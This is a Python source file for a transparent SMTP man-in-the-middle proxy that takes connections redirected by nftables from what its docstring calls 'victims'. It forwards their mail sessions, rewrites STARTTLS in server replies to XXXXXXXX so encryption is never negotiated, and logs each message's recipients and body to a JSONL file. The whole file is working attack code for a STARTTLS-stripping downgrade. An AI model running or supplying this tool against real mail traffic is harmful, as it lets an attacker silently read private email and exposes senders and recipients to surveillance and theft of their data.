"""The man in the middle on port 25: `strip_proxy.py PORT LOG.jsonl`.

nftables sends the victims' connections here. The proxy connects to where they were going, blanks
the
word STARTTLS in what the server says, and writes down each message it can then read.
"""
import socket
import socketserver
import struct
import sys
import threading

import smtp_text

SO_ORIGINAL_DST = 80  # linux/netfilter_ipv4.h
IDLE_SECONDS = 30


def original_destination(connection):
    raw = connection.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
    port, address = struct.unpack_from("!2xH4s", raw)
    return socket.inet_ntoa(address), port


class Reader:
    """Follows the client's side of the dialogue and keeps what it says in the clear."""

    def __init__(self, log, victim):
        self.log, self.victim = log, victim
        self.in_message, self.recipients, self.lines = False, [], []

    def take(self, line):
        text = line.decode("utf-8", "replace").rstrip("\r\n")
        if not self.in_message:
            if text.upper().startswith("RCPT"):
                self.recipients.append(smtp_text.address_in(text))
            self.in_message = text.upper() == "DATA"
        elif text == ".":
            smtp_text.append(
                self.log,
                {
                    "victim": self.victim,
                    "recipients": self.recipients,
                    "body": smtp_text.body_of(self.lines),
                },
            )
            self.in_message, self.recipients, self.lines = False, [], []
        else:
            self.lines.append(text)


class Connection(socketserver.StreamRequestHandler):
    timeout = IDLE_SECONDS

    def handle(self):
        destination = original_destination(self.connection)
        with socket.create_connection(destination, timeout=IDLE_SECONDS) as server:
            threading.Thread(target=self.answers, args=(server,), daemon=True).start()
            reader = Reader(self.server.log, destination[0])
            for line in self.rfile:
                reader.take(line)
                server.sendall(line)

    def answers(self, server):
        try:
            for line in server.makefile("rb"):
                self.wfile.write(line.replace(b"STARTTLS", b"XXXXXXXX"))
            self.connection.shutdown(socket.SHUT_WR)
        except OSError:
            pass  # the client left without waiting for the reply to QUIT


class Proxy(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True

    def handle_error(self, request, client_address):
        print(f"{client_address}: {sys.exc_info()[1]!r}", flush=True)


if __name__ == "__main__":
    with Proxy(("0.0.0.0", int(sys.argv[1])), Connection) as proxy:
        proxy.log = sys.argv[2]
        proxy.serve_forever()
